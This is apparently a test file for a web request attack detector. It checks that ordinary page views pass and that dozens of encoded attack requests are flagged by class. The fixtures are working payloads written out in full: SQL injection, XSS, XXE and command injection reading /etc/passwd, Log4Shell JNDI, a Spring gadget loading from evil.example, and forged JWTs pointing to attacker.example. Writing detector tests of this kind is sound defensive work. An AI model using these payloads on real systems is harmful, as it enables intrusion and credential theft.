/**
 * The generic model on attacks wherever they sit and on ordinary page views of sites it never saw:
 * a Referer or Origin is where a request came from (its URL is never SSRF or a redirect), its query is
 * judged like the site's own; nested encodings, padding and names carry attacks too; a site model
 * never clears what the generic model flags.
 */
import { beforeAll, describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { EBCDIC_TABLES } from "../../src/decompose/body/ebcdic-tables.ts";
import { Detector } from "../../src/detect/detector.ts";
import { rawHttpParser } from "../../src/parse/raw-http.ts";
import { isParseError, type HttpRequest } from "../../src/core/http-request.ts";
import { compileLogFormat, COMBINED_FORMAT } from "../../src/parse/log-format.ts";
import { trainSiteModel } from "../../src/training/site/train.ts";
import { shopLogLines } from "../helpers/site-traffic.ts";
import { tempDir } from "../helpers/tmp.ts";

function req(raw: string): HttpRequest {
  const r = rawHttpParser.parse(raw, { source: "test" });
  if (isParseError(r)) throw new Error(r.reason);
  return r;
}

let detector: Detector;
beforeAll(async () => {
  detector = await Detector.load();
});

describe("ordinary page views of sites never seen", () => {
  test("the site's own address in Referer and Origin, with a port or a name, new pages and campaign parameters: not flagged", async () => {
    const views = [
      "GET /products/p41 HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nReferer: http://127.0.0.1:8080/products?id=3\r\n\r\n",
      "GET /blog/winter-sale-2026?utm_campaign=xmas-2026&lang=fr HTTP/1.1\r\nHost: shop.example.com\r\nReferer: https://shop.example.com/cart?item=5\r\nOrigin: https://shop.example.com\r\n\r\n",
      "POST /api/cart HTTP/1.1\r\nHost: shop.example.com\r\nOrigin: http://localhost:3000\r\nContent-Type: application/json\r\n\r\n{\"statusCode\":200,\"sessionId\":\"abc\",\"items\":[{\"id\":7}]}",
    ];
    const verdicts = await detector.judge(views.map(req));
    expect(verdicts.map((v) => v.isAnomaly)).toEqual([false, false, false]);
  });
});

describe("escaped path segments of ordinary pages", () => {
  test("names with spaces, brackets and phrases that start with a command's name: not flagged", async () => {
    const views = ["/wiki/New%20York%20City", "/docs/My%20Report%20(final).pdf", "/search/cat%20videos", "/files/docs%2F2026%2Freport.pdf/view"];
    const verdicts = await detector.judge(views.map((p) => req(`GET ${p} HTTP/1.1\r\nHost: shop.example.com\r\n\r\n`)));
    expect(verdicts.map((v) => v.isAnomaly)).toEqual([false, false, false, false]);
  });
});

describe("a question about web pages in a comment", () => {
  test("a <script> tag named in prose, whose text is no JavaScript: not flagged", async () => {
    const body = JSON.stringify({ comment: "Use <script> tags to include JavaScript in HTML pages, or a file of its own." });
    const [v] = await detector.judge([req(`POST /api/comments HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n${body}`)]);
    expect(v!.isAnomaly).toBe(false);
  });
});

describe("attacks wherever they sit", () => {
  // The leaf named first; a RegExp where two leaves carry the same piece (the path's, and the route value's).
  const cases: [string, string, string, string | RegExp][] = [
    ["in a Referer's query", "GET / HTTP/1.1\r\nHost: a\r\nReferer: https://shop.example.com/search?id=1%27%20UNION%20SELECT%20password%20FROM%20users--\r\n\r\n", "sqli", "header.referer.query.id"],
    ["as base64 of JSON inside a parameter", `GET /q?data=${Buffer.from(JSON.stringify({ q: "1' OR '1'='1" })).toString("base64")} HTTP/1.1\r\nHost: a\r\n\r\n`, "sqli", /^query\.data~base64(?:~json\.q)?$/],
    ["after 5,000 characters of padding", `GET /q?x=${"a".repeat(5000)}%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: a\r\n\r\n`, "sqli", "query.x~unpadded"],
    ["after 4 KB of padding and a space, where the value no longer starts with it", `GET /q?x=${"a".repeat(4100)}+0+or+1%3D1 HTTP/1.1\r\nHost: a\r\n\r\n`, "sqli", "query.x~unpadded"],
    ["after 4 KB of padding in a path segment", `GET /files/${"a".repeat(4100)}%20%3Bcat%20%2Fetc%2Fpasswd/view HTTP/1.1\r\nHost: a\r\n\r\n`, "cmdi", /^path(?:\.segment\[2\])?~unpadded(?:#2)?$/],
    ["in a parameter's name (a framework's property path)", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "code-injection", "body.class.module.classLoader.resources.context.parent.pipeline.first.pattern"],
    ["in a multipart file name", "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=XX\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"<img src=x onerror=alert(1)>.png\"\r\n\r\nhello\r\n--XX--\r\n", "xss", ""],
    ["in a SOAP body's DOCTYPE", "POST /ws HTTP/1.1\r\nHost: a\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><a>&x;</a></soap:Body></soap:Envelope>", "xxe", ""],
    ["as a route's value, a system file behind escaped slashes", "GET /files/%2Fvar%2Flog%2Fapache2%2Ferror.log/view HTTP/1.1\r\nHost: a\r\n\r\n", "traversal", "path.segment[2]"],
    ["as a route's value, a command line in the middle of the path", "GET /files/ls%20-l%20%2Fvar%2Fwww%2F%2A/view HTTP/1.1\r\nHost: a\r\n\r\n", "cmdi", "path.segment[2]"],
    ["in a cookie, a URL spelled to pass a redirect check", "GET / HTTP/1.1\r\nHost: a\r\nCookie: sid=1; back=%2F%09%2Fevil.example\r\n\r\n", "open-redirect", "cookie.back"],
    ["in a JSON key whose value is no string (prototype pollution)", "POST /api/user HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"name\":\"x\",\"__proto__\":{\"isAdmin\":true}}", "code-injection", "body.json.__proto__"],
    ["as a gadget class a polymorphic JSON binder builds", "POST /api/user HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://evil.example/spel.xml\"]", "deserialization", "body.json[0]"],
    ["as a short base64 token (the whole value)", `GET /q?c=${Buffer.from("| id").toString("base64")} HTTP/1.1\r\nHost: a\r\n\r\n`, "cmdi", "query.c~base64"],
    ["as base64 in a path segment", `GET /files/${Buffer.from("<script>alert(document.cookie)</script>").toString("base64url")} HTTP/1.1\r\nHost: a\r\n\r\n`, "xss", "path~base64"],
    ["in a double-encoded form body", "POST /post HTTP/1.1\r\nHost: a\r\n\r\npay%3DAND%202771%3D1709%29", "sqli", "body~url~url-in-value.query.pay"],
    ["as a Java serialized object in base64", "GET /q?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg HTTP/1.1\r\nHost: a\r\n\r\n", "deserialization", "query.state"],
    ["as a scanner's error probe in a query (sqlmap's and wapiti's first request to a parameter)", "GET /item?id=1%C2%BF%27%22%28 HTTP/1.1\r\nHost: a\r\n\r\n", "sqli", "query.id"],
    ["as a token with its signature switched off, in a cookie", `GET /account HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; jwt=${Buffer.from('{"alg":"None","typ":"JWT"}').toString("base64url")}.${Buffer.from('{"sub":"admin"}').toString("base64url")}.\r\n\r\n`, "auth-bypass", "cookie.jwt~base64~json.alg"],
    ["as a token whose header brings a URL to fetch its key from", `GET /api/me HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${Buffer.from('{"alg":"RS256","jku":"https://attacker.example/jwks.json"}').toString("base64url")}.${Buffer.from('{"sub":"admin"}').toString("base64url")}.c2ln\r\n\r\n`, "auth-bypass", "header.authorization~base64~json.jku"],
    ["as a lookup only Log4j resolves, in a User-Agent", "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${java:version}\r\n\r\n", "log4shell", "header.user-agent"],
    ["as a header that reroutes the path past the front end's check", "GET /index.php HTTP/1.1\r\nHost: a\r\nX-Original-URL: /admin/users\r\n\r\n", "auth-bypass", "header.x-original-url"],
    ["past the leaf limit, after 12,000 harmless keys, spelled with JSON's escapes", `POST /api HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{${Array.from({ length: 12_000 }, (_, i) => `"k${i}":"v${i}"`).join(",")},"q":"\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e"}`, "xss", "body"],
    ["as a scanner's reflection probe (sqlmap's check for a page that writes its quotes and brackets back)", "GET /item?id=1%27kGxyzR%3C%27%22%3EabCd HTTP/1.1\r\nHost: a\r\n\r\n", "xss", "query.id"],
    ["as a header line in a query value that starts with a line break", "GET /lang?l=%0d%0aX-Scan-Probe:%201 HTTP/1.1\r\nHost: a\r\n\r\n", "crlf", "query.l"],
    ["as a JSON body's URL to an SSH port on this machine", "POST /api/hooks HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"url\":\"http://[::1]:22/\"}", "ssrf", "body.json.url"],
    ["as a PHP dispatcher named with the function it is to call", "GET /index.php?function=call_user_func_array&vars[0]=system&vars[1][]=id HTTP/1.1\r\nHost: a\r\n\r\n", "code-injection", "query.vars[0]"],
    ["as a route to a framework's own PHP class", "GET /index.php?s=index/%5Cthink%5CRequest/input&filter=strrev&data=abc HTTP/1.1\r\nHost: a\r\n\r\n", "code-injection", "query.s"],
    ["as one GraphQL mutation batched in a JSON array", `POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n${JSON.stringify(Array.from({ length: 12 }, (_, i) => ({ query: `mutation { verifyOtp(code: "${1000 + i}") { ok } }` })))}`, "scanner", "body.json[0].query"],
    ["in a JSON body sent as UTF-16 without saying so (JSON parsers detect it by its NULs)", `POST /api HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n${Buffer.from(JSON.stringify({ q: "1' UNION SELECT password FROM users--" }), "utf16le").toString("latin1")}`, "sqli", /^body~charset(?:~json\.q)?$/],
    ["in a form body in an EBCDIC charset the Content-Type names (as IIS reads it)", `POST /a.aspx HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded; charset=ibm037\r\n\r\n%98=${[..."<script>alert(document.cookie)</script>"].map((c) => `%${EBCDIC_TABLES.cp037!.indexOf(c).toString(16)}`).join("")}`, "xss", "body~charset~url-in-value.query.q"],
    ["in a multipart part in an EBCDIC charset the part's own Content-Type names", `POST /upload.aspx HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=ibm037\r\n\r\n${Buffer.from([..."1' UNION SELECT password FROM users--"].map((c) => EBCDIC_TABLES.cp037!.indexOf(c))).toString("latin1")}\r\n--b--\r\n`, "sqli", "body.multipart.q~charset"],
    ["in an XML body assembled from internal entities the DOCTYPE declares", `POST /soap HTTP/1.1\r\nHost: a\r\nContent-Type: application/xml\r\n\r\n<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "1' UNI"><!ENTITY b "ON SELECT password FROM users--">]><r><q>&a;&b;</q></r>`, "sqli", "body.xml.r.q"],
    ["in a gRPC-Web text body (base64 of a framed protobuf message, read without its schema)", `POST /shop.v1.Catalog/Search HTTP/1.1\r\nHost: a\r\nContent-Type: application/grpc-web-text\r\n\r\n${((p: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, 0, p.length + 2, 0x0a, p.length]), p]).toString("base64"))(Buffer.from("<img src=x onerror=alert(document.domain)>"))}`, "xss", "body.protobuf.1"],
    ["as a redirect target that starts with the site's own name and goes on into another domain", "GET /login?next=https%3A%2F%2Fshop.example.evil.example%2F HTTP/1.1\r\nHost: shop.example\r\n\r\n", "open-redirect", "query.next"],
    ["as a User-Agent that is one base64 token", `GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${Buffer.from("() { :; }; /bin/bash -c 'cat /etc/passwd'").toString("base64")}\r\n\r\n`, "cmdi", "header.user-agent~base64"],
    ["in a GraphQL argument", "POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n\r\n{\"query\":\"{ user(name: \\\"x' OR 1=1--\\\") { id } }\"}", "sqli", ""],
  ];
  for (const [where, raw, cls, field] of cases) {
    test(`flags an attack ${where}, names its class and the leaf`, async () => {
      const [v] = await detector.judge([req(raw)]);
      expect(v!.isAnomaly).toBe(true);
      expect(v!.attackType).toBe(cls);
      if (field instanceof RegExp) expect(v!.reasons[0]!.field).toMatch(field);
      else if (field) expect(v!.reasons[0]!.field).toBe(field);
      expect(v!.reasons[0]!.evidence.length).toBeGreaterThan(0);
    });
  }
});

test("a client claiming to be the server itself is flagged over a connection from elsewhere, not over a loopback one (local proxies)", async () => {
  const claim = (peer: string) => Object.assign(req("GET /admin HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n"), { clientIp: peer });
  const [remote, local] = await detector.judge([claim("203.0.113.9"), claim("127.0.0.1")]);
  expect([remote!.isAnomaly, remote!.attackType, remote!.severity, remote!.reasons[0]?.field]).toEqual([true, "auth-bypass", "high", "header.x-forwarded-for"]);
  expect(local!.isAnomaly).toBe(false);
});

test("a site model never clears a generic flag: a JNDI lookup in the User-Agent stays flagged on a site whose profile knows the page", async () => {
  const parser = compileLogFormat({ name: "combined", format: COMBINED_FORMAT });
  const traffic = shopLogLines(2000, 5).map((line) => {
    const r = parser.parse(line, { source: "shop" });
    if (isParseError(r)) throw new Error(r.reason);
    return r;
  });
  const trained = await trainSiteModel(traffic, detector.generic, { targetFpr: 0.01, seed: 1 });
  const dir = tempDir();
  writeFileSync(join(dir, "site.onnx"), trained.bytes);
  const withSite = await Detector.load({ site: dir });
  const attack = req("GET /products?id=12&color=red HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${${::-j}ndi:ldap://198.51.100.7:1389/a}\r\n\r\n");
  const [alone] = await detector.judge([attack]);
  const [v] = await withSite.judge([attack]);
  expect(alone!.attackType).toBe("log4shell");
  expect(v!.isAnomaly).toBe(true);
  expect(v!.attackType).toBe("log4shell");
  expect(v!.score).toBeGreaterThanOrEqual(alone!.score);
});
